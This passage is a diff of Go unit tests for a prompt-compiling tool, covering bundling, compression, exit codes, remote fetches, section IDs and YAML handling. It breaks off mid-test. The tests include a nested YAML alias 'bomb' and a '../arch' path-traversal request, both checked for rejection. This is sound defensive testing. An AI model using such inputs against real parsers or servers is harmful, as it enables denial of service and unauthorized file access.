+		t.Fatalf("Failed to create test file: %v", err)
+	}
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	if err := os.WriteFile(promptFile, []byte("prompt:\n  - file: \"notes.txt\""), 0644); err != nil {
+		t.Fatalf("Failed to create prompt file: %v", err)
+	}
+
+	bundlePath := filepath.Join(tmpDir, "context.tar.gz")
+	opts := Options{PromptFile: promptFile, OutputFile: bundlePath, MaxWords: 128000, DelimiterStyle: "xml", BundleSources: true}
+	if _, err := compileAndWrite(opts); err != nil {
+		t.Fatalf("compileAndWrite failed: %v", err)
+	}
+
+	f, err := os.Open(bundlePath)
+	if err != nil {
+		t.Fatalf("Failed to open bundle: %v", err)
+	}
+	defer f.Close()
+	gz, err := gzip.NewReader(f)
+	if err != nil {
+		t.Fatalf("Bundle is not gzipped: %v", err)
+	}
+	entries := make(map[string]string)
+	var names []string
+	tr := tar.NewReader(gz)
+	for {
+		header, err := tr.Next()
+		if err != nil {
+			break
+		}
+		data, _ := io.ReadAll(tr)
+		entries[header.Name] = string(data)
+		names = append(names, header.Name)
+	}
+
+	if strings.Join(names, ",") != "context.txt,sources/notes.txt,sources/prompt.yml,manifest.json" {
+		t.Errorf("Unexpected bundle entries %v", names)
+	}
+	if entries["context.txt"] != "<!-- pcp-source: notes.txt -->\nbundled notes\n" {
+		t.Errorf("Unexpected bundled output %q", entries["context.txt"])
+	}
+
+	var manifest bundleManifest
+	if err := json.Unmarshal([]byte(entries["manifest.json"]), &manifest); err != nil {
+		t.Fatalf("Manifest is not valid JSON: %v", err)
+	}
+	sum := sha256.Sum256([]byte(entries["context.txt"]))
+	if manifest.SHA256 != fmt.Sprintf("%x", sum) || manifest.Words != 2 || len(manifest.Sections) != 1 {
+		t.Errorf("Unexpected manifest %+v", manifest)
+	}
+
+	if name := bundleSourceName("/work/project", "/etc/hosts"); name != "sources/external/etc/hosts" {
+		t.Errorf("Files outside the prompt directory should go under sources/external, got %q", name)
+	}
+}
+
+func TestCompressedOutput(t *testing.T) {
+	tmpDir := t.TempDir()
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	if err := os.WriteFile(promptFile, []byte("prompt:\n  - text: \"compress me\""), 0644); err != nil {
+		t.Fatalf("Failed to create prompt file: %v", err)
+	}
+	expected := "<!-- pcp-source: text -->\ncompress me\n"
+
+	for _, method := range []string{"gzip", "zstd"} {
+		outputFile := filepath.Join(tmpDir, "context.txt."+method)
+		opts := Options{PromptFile: promptFile, OutputFile: outputFile, MaxWords: 128000, DelimiterStyle: "xml", Compress: method}
+		if _, err := compileAndWrite(opts); err != nil {
+			t.Fatalf("compileAndWrite with %s failed: %v", method, err)
+		}
+
+		f, err := os.Open(outputFile)
+		if err != nil {
+			t.Fatalf("Failed to open output: %v", err)
+		}
+		var r io.Reader
+		if method == "gzip" {
+			r, err = gzip.NewReader(f)
+		} else {
+			r, err = zstd.NewReader(f)
+		}
+		if err != nil {
+			t.Fatalf("Output is not %s compressed: %v", method, err)
+		}
+		data, err := io.ReadAll(r)
+		f.Close()
+		if err != nil || string(data) != expected {
+			t.Errorf("%s output decompressed to %q (%v), want %q", method, data, err, expected)
+		}
+	}
+
+	if format := resolveFormat("", "context.md.gz"); format != "markdown" {
+		t.Errorf("Format should be inferred past .gz, got %s", format)
+	}
+	if err := validateOptions(Options{DelimiterStyle: "xml", Compress: "gzip"}); err == nil {
+		t.Error("Expected -compress without -o to be rejected")
+	}
+
+	// Without -compress, the compression follows the name, as the format
+	// does, and -route files are compressed by theirs
+	decompress := func(path, method string) string {
+		t.Helper()
+		f, err := os.Open(path)
+		if err != nil {
+			t.Fatalf("Failed to open output: %v", err)
+		}
+		defer f.Close()
+		var r io.Reader
+		if method == "gzip" {
+			r, err = gzip.NewReader(f)
+		} else {
+			r, err = zstd.NewReader(f)
+		}
+		if err != nil {
+			t.Fatalf("%s is not %s compressed: %v", path, method, err)
+		}
+		data, _ := io.ReadAll(r)
+		return string(data)
+	}
+	gzipped, zstded, routed := filepath.Join(tmpDir, "context.md.gz"), filepath.Join(tmpDir, "context.txt.zst"), filepath.Join(tmpDir, "text.txt.gz")
+	if _, err := compileAndWrite(Options{PromptFile: promptFile, OutputFile: gzipped, MaxWords: 128000, DelimiterStyle: "xml"}); err != nil {
+		t.Fatalf("compileAndWrite failed: %v", err)
+	}
+	if got := decompress(gzipped, "gzip"); !strings.Contains(got, "compress me") || !strings.HasPrefix(got, "##") {
+		t.Errorf("Expected gzipped markdown, got %q", got)
+	}
+	if _, err := compileAndWrite(Options{PromptFile: promptFile, OutputFile: zstded, MaxWords: 128000, DelimiterStyle: "xml", Routes: []outputRoute{{Types: []OperationType{TextOp}, File: routed}}}); err != nil {
+		t.Fatalf("compileAndWrite failed: %v", err)
+	}
+	decompress(zstded, "zstd")
+	if got := decompress(routed, "gzip"); got != expected {
+		t.Errorf("Expected the gzipped route %q, got %q", expected, got)
+	}
+	if _, err := compileAndWrite(Options{PromptFile: promptFile, OutputFile: gzipped, MaxWords: 128000, DelimiterStyle: "xml", Compress: "none"}); err != nil {
+		t.Fatalf("compileAndWrite failed: %v", err)
+	}
+	if data, _ := os.ReadFile(gzipped); !strings.Contains(string(data), "compress me") {
+		t.Errorf("-compress none should write plain output, got %q", data)
+	}
+}
+
+func TestQuietAndStrict(t *testing.T) {
+	tmpDir := t.TempDir()
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	if err := os.WriteFile(promptFile, []byte("prompt:\n  - command: \"echo partial; exit 1\""), 0644); err != nil {
+		t.Fatalf("Failed to create prompt file: %v", err)
+	}
+
+	stderr := os.Stderr
+	r, w, err := os.Pipe()
+	if err != nil {
+		t.Fatalf("Failed to create pipe: %v", err)
+	}
+	os.Stderr = w
+	opts := Options{PromptFile: promptFile, MaxWords: 128000, DelimiterStyle: "xml", Quiet: true}
+	compiled, err := compilePromptFile(opts)
+	os.Stderr = stderr
+	w.Close()
+	printed, _ := io.ReadAll(r)
+
+	if err != nil {
+		t.Fatalf("compilePromptFile failed: %v", err)
+	}
+	if len(printed) != 0 {
+		t.Errorf("-quiet should suppress warnings, got %q", printed)
+	}
+	if len(compiled.Stats.Warnings) != 1 || !strings.Contains(compiled.Stats.Warnings[0], "exited with status 1") {
+		t.Errorf("Warnings should still be recorded, got %v", compiled.Stats.Warnings)
+	}
+
+	opts.Strict = true
+	_, err = compilePromptFile(opts)
+	var strictErr ErrStrictWarnings
+	if !errors.As(err, &strictErr) || len(strictErr.Warnings) != 1 {
+		t.Errorf("Expected ErrStrictWarnings with one warning, got %v", err)
+	}
+}
+
+func TestOkExitCodes(t *testing.T) {
+	tmpDir := t.TempDir()
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	opts := Options{PromptFile: promptFile, MaxWords: 128000, DelimiterStyle: "xml", Quiet: true}
+
+	tests := []struct {
+		op      string
+		wantErr bool
+	}{
+		{"command: \"exit 1\"", false},
+		{"command: \"exit 2\"", true},
+		{"command: \"echo partial; exit 2\"\n    ok_exit_codes: [0, 2]", false},
+		{"command: \"exit 1\"\n    ok_exit_codes: [0]", true},
+		{"command: \"exit 1\"\n    ok_exit_codes: []", true},
+		{"command: \"echo fine\"\n    ok_exit_codes: []", false},
+	}
+
+	for _, tt := range tests {
+		if err := os.WriteFile(promptFile, []byte("prompt:\n  - "+tt.op), 0644); err != nil {
+			t.Fatalf("Failed to create prompt file: %v", err)
+		}
+		compiled, err := compilePromptFile(opts)
+		if (err != nil) != tt.wantErr {
+			t.Errorf("%q: error = %v, wantErr %v", tt.op, err, tt.wantErr)
+		}
+		if err == nil && strings.Contains(tt.op, "ok_exit_codes") && len(compiled.Stats.Warnings) != 0 {
+			t.Errorf("%q: listed exit codes should not warn, got %v", tt.op, compiled.Stats.Warnings)
+		}
+	}
+}
+
+func TestExitCodeInHeader(t *testing.T) {
+	tmpDir := t.TempDir()
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	promptContent := `prompt:
+  - command: "echo partial; exit 3"
+    ok_exit_codes: [3]
+  - command: "echo complete"`
+	if err := os.WriteFile(promptFile, []byte(promptContent), 0644); err != nil {
+		t.Fatalf("Failed to create prompt file: %v", err)
+	}
+
+	compiled, err := compilePromptFile(Options{PromptFile: promptFile, MaxWords: 128000, DelimiterStyle: "xml"})
+	if err != nil {
+		t.Fatalf("compilePromptFile failed: %v", err)
+	}
+
+	text, _ := renderOutput(compiled, "text", "xml", defaultSectionSeparator)
+	if !strings.Contains(text, "<!-- pcp-source: echo partial; exit 3 (exit status 3) -->") {
+		t.Errorf("Header should record the exit status, got:\n%s", text)
+	}
+	if !strings.Contains(text, "<!-- pcp-source: echo complete -->") {
+		t.Errorf("Successful commands should have a plain header, got:\n%s", text)
+	}
+
+	data, _ := renderOutput(compiled, "json", "xml", defaultSectionSeparator)
+	var output jsonOutput
+	if err := json.Unmarshal([]byte(data), &output); err != nil {
+		t.Fatalf("Invalid JSON output: %v", err)
+	}
+	if output.Sections[0].ExitCode != 3 || output.Sections[1].ExitCode != 0 {
+		t.Errorf("JSON sections should carry exit codes, got %+v", output.Sections)
+	}
+}
+
+func TestSysinfoOperation(t *testing.T) {
+	tmpDir := t.TempDir()
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	if err := os.WriteFile(promptFile, []byte("prompt:\n  - sysinfo: true"), 0644); err != nil {
+		t.Fatalf("Failed to create prompt file: %v", err)
+	}
+
+	compiled, err := compilePromptFile(Options{PromptFile: promptFile, MaxWords: 128000, DelimiterStyle: "xml", WorkDir: tmpDir})
+	if err != nil {
+		t.Fatalf("compilePromptFile failed: %v", err)
+	}
+
+	section := compiled.Sections[0]
+	if section.Source != "sysinfo" || section.Type != SysinfoOp {
+		t.Errorf("Unexpected sysinfo section: %+v", section)
+	}
+	for _, want := range []string{
+		"os: " + runtime.GOOS + "\n",
+		"arch: " + runtime.GOARCH + "\n",
+		fmt.Sprintf("cpus: %d\n", runtime.NumCPU()),
+		"cwd: " + filepath.ToSlash(tmpDir) + "\n",
+	} {
+		if !strings.Contains(section.Content, want) {
+			t.Errorf("Sysinfo should contain %q, got:\n%s", want, section.Content)
+		}
+	}
+	// The temporary directory is not a repository, so git facts are left out
+	if strings.Contains(section.Content, "git commit:") {
+		t.Errorf("Sysinfo outside a repository should omit git facts, got:\n%s", section.Content)
+	}
+
+	if err := os.WriteFile(promptFile, []byte("prompt:\n  - sysinfo: false"), 0644); err != nil {
+		t.Fatalf("Failed to create prompt file: %v", err)
+	}
+	if _, err := compilePromptFile(Options{PromptFile: promptFile, MaxWords: 128000, DelimiterStyle: "xml"}); err == nil {
+		t.Error("sysinfo: false should be rejected")
+	}
+}
+
+func TestTimestampOperation(t *testing.T) {
+	tmpDir := t.TempDir()
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	promptContent := `prompt:
+  - timestamp: {format: "2006-01-02 15:04 MST", utc: true}
+  - timestamp: {}`
+	if err := os.WriteFile(promptFile, []byte(promptContent), 0644); err != nil {
+		t.Fatalf("Failed to create prompt file: %v", err)
+	}
+
+	t.Setenv("SOURCE_DATE_EPOCH", "1700000000")
+	compiled, err := compilePromptFile(Options{PromptFile: promptFile, MaxWords: 128000, DelimiterStyle: "xml"})
+	if err != nil {
+		t.Fatalf("compilePromptFile failed: %v", err)
+	}
+	if got := compiled.Sections[0].Content; got != "2023-11-14 22:13 UTC\n" {
+		t.Errorf("Formatted timestamp = %q", got)
+	}
+	if got := compiled.Sections[1].Content; got != time.Unix(1700000000, 0).Format(time.RFC3339)+"\n" {
+		t.Errorf("Default format should be RFC 3339, got %q", got)
+	}
+	if compiled.Sections[0].Source != "timestamp" {
+		t.Errorf("Timestamp source = %q", compiled.Sections[0].Source)
+	}
+
+	t.Setenv("SOURCE_DATE_EPOCH", "yesterday")
+	if _, err := compilePromptFile(Options{PromptFile: promptFile, MaxWords: 128000, DelimiterStyle: "xml"}); err == nil {
+		t.Error("An invalid SOURCE_DATE_EPOCH should fail the compile")
+	}
+}
+
+func TestRemoteOperation(t *testing.T) {
+	serverDir := t.TempDir()
+	if err := os.WriteFile(filepath.Join(serverDir, "arch.txt"), []byte("Services talk over queues"), 0644); err != nil {
+		t.Fatalf("Failed to create file: %v", err)
+	}
+	if err := os.WriteFile(filepath.Join(serverDir, "arch.yml"), []byte("prompt:\n  - file: arch.txt"), 0644); err != nil {
+		t.Fatalf("Failed to create prompt file: %v", err)
+	}
+	server := httptest.NewServer(serveHandler(serverDir, newSourceCache()))
+	defer server.Close()
+
+	tmpDir := t.TempDir()
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	promptContent := fmt.Sprintf(`vars:
+  server: %s
+prompt:
+  - pcp_remote: "${server}/compiled/arch"`, server.URL)
+	if err := os.WriteFile(promptFile, []byte(promptContent), 0644); err != nil {
+		t.Fatalf("Failed to create prompt file: %v", err)
+	}
+
+	compiled, err := compilePromptFile(Options{PromptFile: promptFile, MaxWords: 128000, DelimiterStyle: "xml"})
+	if err != nil {
+		t.Fatalf("compilePromptFile failed: %v", err)
+	}
+	section := compiled.Sections[0]
+	if section.Source != server.URL+"/compiled/arch" || section.Type != RemoteOp {
+		t.Errorf("Unexpected remote section: %+v", section)
+	}
+	if !strings.Contains(section.Content, "<!-- pcp-source: arch.txt -->\nServices talk over queues") {
+		t.Errorf("Remote section should hold the served compile, got:\n%s", section.Content)
+	}
+
+	for _, name := range []string{"missing", "../arch"} {
+		if err := os.WriteFile(promptFile, []byte("prompt:\n  - pcp_remote: "+server.URL+"/compiled/"+name), 0644); err != nil {
+			t.Fatalf("Failed to create prompt file: %v", err)
+		}
+		_, err := compilePromptFile(Options{PromptFile: promptFile, MaxWords: 128000, DelimiterStyle: "xml"})
+		var fetchErr ErrRemoteFetch
+		if !errors.As(err, &fetchErr) {
+			t.Errorf("Fetching %s should fail with ErrRemoteFetch, got %v", name, err)
+		}
+	}
+}
+
+func TestSectionIDs(t *testing.T) {
+	tmpDir := t.TempDir()
+	if err := os.WriteFile(filepath.Join(tmpDir, "a.txt"), []byte("Alpha"), 0644); err != nil {
+		t.Fatalf("Failed to create file: %v", err)
+	}
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	compileIDs := func(promptContent string) []ContentSection {
+		t.Helper()
+		if err := os.WriteFile(promptFile, []byte(promptContent), 0644); err != nil {
+			t.Fatalf("Failed to create prompt file: %v", err)
+		}
+		compiled, err := compilePromptFile(Options{PromptFile: promptFile, MaxWords: 128000, DelimiterStyle: "xml", SectionIDs: true})
+		if err != nil {
+			t.Fatalf("compilePromptFile failed: %v", err)
+		}
+		return compiled.Sections
+	}
+
+	first := compileIDs("prompt:\n  - file: a.txt\n  - text: Note\n  - text: Note")
+	second := compileIDs("prompt:\n  - text: Note\n  - file: a.txt\n    max_words: 10")
+	if len(first[0].ID) != sectionIDLength {
+		t.Errorf("Unexpected ID %q", first[0].ID)
+	}
+	if first[1].ID != second[0].ID {
+		t.Errorf("IDs should not depend on ordering: %q != %q", first[1].ID, second[0].ID)
+	}
+	if first[0].ID == second[1].ID {
+		t.Error("Operation options should change the ID")
+	}
+	if first[2].ID != first[1].ID+"-2" {
+		t.Errorf("Repeated operations should be numbered, got %q and %q", first[1].ID, first[2].ID)
+	}
+
+	// Every option that shapes content is part of the ID, so two views of
+	// the same file are told apart without depending on their order
+	third := compileIDs("prompt:\n  - file: a.txt\n    from_pattern: Alpha\n  - file: a.txt\n    strip_frontmatter: true\n  - file: a.txt\n    targets: [docs]\n    weight: 2")
+	for i, section := range third[:2] {
+		if strings.Contains(section.ID, "-") || section.ID == first[0].ID {
+			t.Errorf("Section %d should have an ID of its own, got %q", i, section.ID)
+		}
+	}
+	if third[0].ID == third[1].ID {
+		t.Errorf("from_pattern and strip_frontmatter should give different IDs, both got %q", third[0].ID)
+	}
+	if third[2].ID != first[0].ID {
+		t.Errorf("Options that do not shape content should not change the ID: %q != %q", third[2].ID, first[0].ID)
+	}
+
+	text, _ := renderOutput(CompiledContent{Sections: first}, "text", "xml", defaultSectionSeparator)
+	if !strings.Contains(text, "<!-- pcp-source: a.txt id="+first[0].ID+" -->") {
+		t.Errorf("Headers should carry the ID, got:\n%s", text)
+	}
+	data, _ := renderOutput(CompiledContent{Sections: first}, "json", "xml", defaultSectionSeparator)
+	if !strings.Contains(data, `"id": "`+first[0].ID+`"`) {
+		t.Errorf("JSON sections should carry the ID, got:\n%s", data)
+	}
+
+	compiled, err := compilePromptFile(Options{PromptFile: promptFile, MaxWords: 128000, DelimiterStyle: "xml"})
+	if err != nil {
+		t.Fatalf("compilePromptFile failed: %v", err)
+	}
+	if compiled.Sections[0].ID != "" {
+		t.Error("IDs should only be assigned with -section-ids")
+	}
+}
+
+func TestSectionSeparator(t *testing.T) {
+	content := CompiledContent{Sections: []ContentSection{
+		{Source: "a.txt", Content: "Alpha\n", Type: FileOp},
+		{Source: "b.txt", Content: "Beta\n", Type: FileOp},
+	}}
+
+	tests := []struct {
+		style     string
+		separator string
+		expected  string
+	}{
+		{"xml", defaultSectionSeparator, "<!-- pcp-source: a.txt -->\nAlpha\n\n<!-- pcp-source: b.txt -->\nBeta\n"},
+		{"none", defaultSectionSeparator, "Alpha\n\nBeta\n"},
+		{"none", "\n---\n", "Alpha\n\n---\nBeta\n"},
+		{"minimal", "", "=== PCP SOURCE: a.txt ===\nAlpha\n=== PCP SOURCE: b.txt ===\nBeta\n"},
+	}
+	for _, tt := range tests {
+		output, err := renderOutput(content, "text", tt.style, tt.separator)
+		if err != nil {
+			t.Fatalf("renderOutput failed: %v", err)
+		}
+		if output != tt.expected {
+			t.Errorf("style %s, separator %q: got %q, want %q", tt.style, tt.separator, output, tt.expected)
+		}
+	}
+
+	var opts Options
+	f := separatorFlag{&opts.SectionSeparator}
+	if opts.sectionSeparator() != defaultSectionSeparator {
+		t.Error("An unset separator should use the default")
+	}
+	if err := f.Set(`\n\n---\n\n`); err != nil || opts.sectionSeparator() != "\n\n---\n\n" {
+		t.Errorf("Escapes should be interpreted, got %q (%v)", opts.sectionSeparator(), err)
+	}
+	if err := f.Set(""); err != nil || opts.sectionSeparator() != "" {
+		t.Errorf("An empty separator should be kept, got %q (%v)", opts.sectionSeparator(), err)
+	}
+	if err := f.Set(`\q`); err == nil {
+		t.Error("Invalid escapes should be rejected")
+	}
+}
+
+func TestYAMLAliases(t *testing.T) {
+	tmpDir := t.TempDir()
+	if err := os.WriteFile(filepath.Join(tmpDir, "a.txt"), []byte("Alpha"), 0644); err != nil {
+		t.Fatalf("Failed to create file: %v", err)
+	}
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	promptContent := `definitions:
+  context: &context
+    - file: a.txt
+    - text: "Shared note"
+  capped: &capped
+    max_words: 1
+prompt:
+  - *context
+  - text: "Middle"
+  - *context
+  - <<: *capped
+    text: "Two words"`
+	if err := os.WriteFile(promptFile, []byte(promptContent), 0644); err != nil {
+		t.Fatalf("Failed to create prompt file: %v", err)
+	}
+
+	compiled, err := compilePromptFile(Options{PromptFile: promptFile, MaxWords: 128000, DelimiterStyle: "xml"})
+	if err != nil {
+		t.Fatalf("compilePromptFile failed: %v", err)
+	}
+	var sources []string
+	for _, section := range compiled.Sections {
+		sources = append(sources, section.Source)
+	}
+	if strings.Join(sources, ",") != "a.txt,text,text,a.txt,text,text" {
+		t.Errorf("Aliased operation lists should be spliced, got %v", sources)
+	}
+	if last := compiled.Sections[5].Content; strings.Contains(last, "Two words") {
+		t.Errorf("Merge keys should apply aliased options, got %q", last)
+	}
+
+	bomb := "definitions:\n  a: &a [x, x, x, x, x, x, x, x, x, x]\n"
+	for _, name := range []string{"b", "c", "d", "e"} {
+		prev := string(rune(name[0] - 1))
+		bomb += fmt.Sprintf("  %s: &%s [*%s, *%s, *%s, *%s, *%s, *%s, *%s, *%s, *%s, *%s]\n", name, name, prev, prev, prev, prev, prev, prev, prev, prev, prev, prev)
+	}
+	bomb += "prompt:\n  - text: hi"
+	if err := os.WriteFile(promptFile, []byte(bomb), 0644); err != nil {
+		t.Fatalf("Failed to create prompt file: %v", err)
+	}
+	_, err = compilePromptFile(Options{PromptFile: promptFile, MaxWords: 128000, DelimiterStyle: "xml"})
+	if err == nil || !strings.Contains(err.Error(), "aliases expand to more than") {
+		t.Errorf("Excessive alias expansion should be rejected, got %v", err)
+	}
+}
+
+func TestFilePatternRange(t *testing.T) {
+	tmpDir := t.TempDir()
+	source := "package main\n\nimport \"fmt\"\n\nfunc main() {\n\tif true {\n\t\tfmt.Println(1)\n\t}\n}\n\nfunc helper() {\n}\n"
+	if err := os.WriteFile(filepath.Join(tmpDir, "main.go"), []byte(source), 0644); err != nil {
+		t.Fatalf("Failed to create file: %v", err)
+	}
+
+	tests := []struct {
+		name     string
+		options  string
+		expected string
+	}{
+		{"block", `from_pattern: "^func main\\("` + "\n    " + `to_pattern: "^}"`, "func main() {\n\tif true {\n\t\tfmt.Println(1)\n\t}\n}\n"},
+		{"from only", `from_pattern: "^func helper"`, "func helper() {\n}\n"},
+		{"to only", `to_pattern: "^import"`, "package main\n\nimport \"fmt\"\n"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			promptFile := filepath.Join(tmpDir, "prompt.yml")
+			promptContent := "prompt:\n  - file: main.go\n    " + tt.options
+			if err := os.WriteFile(promptFile, []byte(promptContent), 0644); err != nil {
+				t.Fatalf("Failed to create prompt file: %v", err)
+			}
+			compiled, err := compilePromptFile(Options{PromptFile: promptFile, MaxWords: 128000, DelimiterStyle: "xml"})
+			if err != nil {
+				t.Fatalf("compilePromptFile failed: %v", err)
+			}
+			if got := compiled.Sections[0].Content; got != tt.expected {
+				t.Errorf("got %q, want %q", got, tt.expected)
+			}
+		})
+	}
+
+	errorCases := []struct {
+		name    string
+		content string
+	}{
+		{"missing match", "prompt:\n  - file: main.go\n    from_pattern: \"^func missing\""},
+		{"invalid regex", "prompt:\n  - file: main.go\n    from_pattern: \"(\""},
+		{"not a file op", "prompt:\n  - text: hi\n    to_pattern: x"},
+	}
+	for _, tt := range errorCases {
+		promptFile := filepath.Join(tmpDir, "bad.yml")
+		if err := os.WriteFile(promptFile, []byte(tt.content), 0644); err != nil {
+			t.Fatalf("Failed to create prompt file: %v", err)
+		}
+		if _, err := compilePromptFile(Options{PromptFile: promptFile, MaxWords: 128000, DelimiterStyle: "xml"}); err == nil {
+			t.Errorf("%s: expected an error", tt.name)
+		}
+	}
+}
+
+func TestLatestChangelogEntry(t *testing.T) {
+	tests := []struct {
+		name     string
+		content  string
+		expected string
+	}{
+		{
+			"keep a changelog",
+			"# Changelog\n\n## [Unreleased]\n\n## [1.2.0] - 2024-05-01\n### Added\n- Feature\n\n```\n# not a heading\n```\n## [1.1.0] - 2024-04-01\n- Old\n",
+			"## [1.2.0] - 2024-05-01\n### Added\n- Feature\n\n```\n# not a heading\n```\n",
+		},
+		{
+			"no title",
+			"## 2.0\n### Fixed\n- Bug\n## 1.0\n- Initial\n",
+			"## 2.0\n### Fixed\n- Bug\n",
+		},
+		{
+			"single release",
+			"# Changelog\n## 1.0\n- Initial\n",
+			"## 1.0\n- Initial\n",
+		},
+	}
+	for _, tt := range tests {
+		got, err := latestChangelogEntry(tt.content, "CHANGELOG.md")
+		if err != nil {
+			t.Errorf("%s: %v", tt.name, err)
+			continue
+		}
+		if got != tt.expected {
+			t.Errorf("%s: got %q, want %q", tt.name, got, tt.expected)
+		}
+	}
+
+	if _, err := latestChangelogEntry("Just prose\n", "CHANGELOG.md"); err == nil {
+		t.Error("A file without headings should be an error")
+	}
+	if _, err := latestChangelogEntry("# Changelog\n## Unreleased\n- Wip\n", "CHANGELOG.md"); err == nil {
+		t.Error("A changelog with no released entry should be an error")
+	}
+}
+
+func TestStripFrontmatter(t *testing.T) {
+	tests := []struct {
+		name     string
+		content  string
+		expected string
+	}{
+		{"yaml", "---\ntitle: Install\ndraft: false\n---\n\n# Install\nRun it.\n", "# Install\nRun it.\n"},
+		{"yaml ending with dots", "---\ntitle: X\n...\nBody\n", "Body\n"},
+		{"toml", "+++\ntitle = \"Install\"\n+++\nBody\n", "Body\n"},
+		{"crlf", "---\r\ntitle: X\r\n---\r\nBody\r\n", "Body\r\n"},
+		{"none", "# Title\n---\nBody\n", "# Title\n---\nBody\n"},
+		{"unclosed", "---\ntitle: X\nBody\n", "---\ntitle: X\nBody\n"},
+	}
+	for _, tt := range tests {
+		if got := stripFrontmatter(tt.content); got != tt.expected {
+			t.Errorf("%s: got %q, want %q", tt.name, got, tt.expected)
+		}
+	}
+}
+
+func TestIncludeOnce(t *testing.T) {
+	tmpDir := t.TempDir()
+	files := map[string]string{
+		"standards.yml": "prompt:\n  - text: \"Coding standards\"",
+		"backend.yml":   "prompt:\n  - prompt: standards.yml\n    include_once: true\n  - text: Backend",
+		"frontend.yml":  "prompt:\n  - prompt: standards.yml\n    include_once: true\n  - text: Frontend",
+		"prompt.yml":    "prompt:\n  - prompt: backend.yml\n  - prompt: frontend.yml",
+	}
+	for name, content := range files {
+		if err := os.WriteFile(filepath.Join(tmpDir, name), []byte(content), 0644); err != nil {
+			t.Fatalf("Failed to create %s: %v", name, err)
+		}
+	}
+
+	compiled, err := compilePromptFile(Options{PromptFile: filepath.Join(tmpDir, "prompt.yml"), MaxWords: 128000, DelimiterStyle: "xml"})
+	if err != nil {
+		t.Fatalf("compilePromptFile failed: %v", err)
+	}
+	output, _ := renderOutput(compiled, "text", "xml", defaultSectionSeparator)
+	if strings.Count(output, "Coding standards") != 1 {
+		t.Errorf("An include_once prompt should be emitted once, got:\n%s", output)
+	}
+	if len(compiled.Sections[1].Children) != 1 {
+		t.Errorf("The second occurrence should be skipped, got %+v", compiled.Sections[1].Children)
+	}
+	if len(compiled.Stats.Skipped) != 1 || !strings.Contains(compiled.Stats.Skipped[0].Description, "already included") {
+		t.Errorf("The skipped occurrence should be reported, got %+v", compiled.Stats.Skipped)
+	}
+
+	badPrompt := filepath.Join(tmpDir, "bad.yml")
+	if err := os.WriteFile(badPrompt, []byte("prompt:\n  - text: hi\n    include_once: true"), 0644); err != nil {
+		t.Fatalf("Failed to create prompt file: %v", err)
+	}
+	if _, err := compilePromptFile(Options{PromptFile: badPrompt, MaxWords: 128000, DelimiterStyle: "xml"}); err == nil {
+		t.Error("include_once on a non-prompt operation should be rejected")
+	}
+}
+
+func TestCaptureAs(t *testing.T) {
+	tmpDir := t.TempDir()
+	if err := os.WriteFile(filepath.Join(tmpDir, "notes-main.txt"), []byte("Main branch notes"), 0644); err != nil {
+		t.Fatalf("Failed to create file: %v", err)
+	}
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	promptContent := `vars:
+  branch: default
+prompt:
+  - text: "Before: ${branch}"
+  - command: "echo main"
+    capture_as: branch
+    suppress: true
+  - text: "On ${branch}"
+  - command: "echo ${branch}-suffix"
+  - command: ["echo", "${branch}"]
+  - file: "notes-${branch}.txt"`
+	if err := os.WriteFile(promptFile, []byte(promptContent), 0644); err != nil {
+		t.Fatalf("Failed to create prompt file: %v", err)
+	}
+
+	compiled, err := compilePromptFile(Options{PromptFile: promptFile, MaxWords: 128000, DelimiterStyle: "xml", WorkDir: tmpDir})
+	if err != nil {
+		t.Fatalf("compilePromptFile failed: %v", err)
+	}
+	var contents []string
+	for _, section := range compiled.Sections {
+		contents = append(contents, strings.TrimSpace(section.Content))
+	}
+	expected := []string{"Before: default", "On main", "main-suffix", "main", "Main branch notes"}
+	if strings.Join(contents, "|") != strings.Join(expected, "|") {
+		t.Errorf("got %q, want %q", contents, expected)
+	}
+	if compiled.Stats.Words != 9 {
+		t.Errorf("A suppressed capture should not count against the budget, got %d words", compiled.Stats.Words)
+	}
+
+	invalid := []string{
+		"prompt:\n  - text: hi\n    capture_as: x",
+		"prompt:\n  - command: \"echo hi\"\n    suppress: true",
+		"prompt:\n  - command: \"echo hi\"\n    capture_as: \"not-valid\"",
+		"prompt:\n  - command: \"echo x\"\n    capture_as: name\n  - prompt: \"${name}.yml\"",
+	}
+	for _, content := range invalid {
+		if err := os.WriteFile(promptFile, []byte(content), 0644); err != nil {
+			t.Fatalf("Failed to create prompt file: %v", err)
+		}
+		if _, err := compilePromptFile(Options{PromptFile: promptFile, MaxWords: 128000, DelimiterStyle: "xml"}); err == nil {
+			t.Errorf("Expected an error for:\n%s", content)
+		}
+	}
+}
+
+func TestAssertOperation(t *testing.T) {
+	tmpDir := t.TempDir()
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	compile := func(promptContent string) (CompiledContent, error) {
+		t.Helper()
+		if err := os.WriteFile(promptFile, []byte(promptContent), 0644); err != nil {
+			t.Fatalf("Failed to create prompt file: %v", err)
+		}
+		return compilePromptFile(Options{PromptFile: promptFile, MaxWords: 128000, DelimiterStyle: "xml"})
+	}
+
+	compiled, err := compile(`prompt:
+  - command: "echo feature/login"
+    capture_as: branch
+    suppress: true
+  - assert: {var: branch, matches: "^feature/"}
+  - text: "package main"
+    label: code
+  - assert: {label: code, contains: "package"}`)
+	if err != nil {
+		t.Fatalf("Passing assertions should not fail the compile: %v", err)
+	}
+	if len(compiled.Sections) != 1 {
+		t.Errorf("Assertions should not produce sections, got %d", len(compiled.Sections))
+	}
+
+	_, err = compile(`prompt:
+  - command: "echo main"
+    capture_as: branch
+  - assert: {var: branch, matches: "^feature/", message: "build from a feature branch"}`)
+	var assertErr ErrAssertionFailed
+	if !errors.As(err, &assertErr) {
+		t.Fatalf("Expected ErrAssertionFailed, got %v", err)
+	}
+	if assertErr.Error() != `assertion failed: build from a feature branch (branch = "main" does not match "^feature/")` {
+		t.Errorf("Unexpected message: %v", assertErr)
+	}
+
+	_, err = compile("prompt:\n  - text: hi\n    label: a\n  - assert: {label: a, contains: bye}")
+	if !errors.As(err, &assertErr) {
